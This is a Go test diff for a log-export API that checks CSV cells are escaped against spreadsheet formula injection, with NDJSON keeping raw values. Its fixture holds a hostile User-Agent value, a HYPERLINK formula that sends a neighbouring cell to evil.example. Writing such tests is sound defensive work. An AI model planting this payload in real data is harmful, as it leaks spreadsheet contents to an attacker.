@@ -2,6 +2,8 @@ package api
 
 import (
 	"context"
+	"encoding/csv"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"net/http"
@@ -176,5 +178,34 @@ func TestPipelinedKeepsOrderErrorsAndBounds(t *testing.T) {
 				t.Errorf("the reader went on to row %d after fn stopped at %d", produced, tc.stopAt)
 			}
 		})
+	}
+}
+
+// TestCSVCellsNeverRunAsFormulas: a User-Agent or a user name is whatever
+// the client sent; in a spreadsheet "=HYPERLINK(...)" would send the
+// neighbouring cells away. The CSV cell carries one "'" in front, the
+// NDJSON the value as stored.
+func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
+	const ua = `=HYPERLINK("https://evil.example/?"&B2,"x")`
+	hits := []store.Hit{{ClientIP: netip.MustParseAddr("203.0.113.7"), Path: "/a", UserAgent: ua, User: "@admin", Referer: "'quoted"}}
+	env := newTestEnv(t, &fakeStore{hits: hits})
+	body := readBody(t, env.getAccept(t, okQuery, env.tokens.analyst, "text/csv"))
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("CSV %q: %v", body, err)
+	}
+	cell := map[string]string{}
+	for i, name := range recs[0] {
+		cell[name] = recs[1][i]
+	}
+	for col, want := range map[string]string{"user_agent": "'" + ua, "user": "'@admin", "referer": "''quoted", "path": "/a", "client_ip": "203.0.113.7"} {
+		if cell[col] != want {
+			t.Errorf("CSV %s = %q, want %q", col, cell[col], want)
+		}
+	}
+	nd := readBody(t, env.getAccept(t, okQuery, env.tokens.analyst, "application/x-ndjson"))
+	var row map[string]any
+	if err := json.Unmarshal([]byte(nd), &row); err != nil || row["user_agent"] != ua || row["user"] != "@admin" {
+		t.Errorf("NDJSON %q: %v", nd, err)
 	}
 }
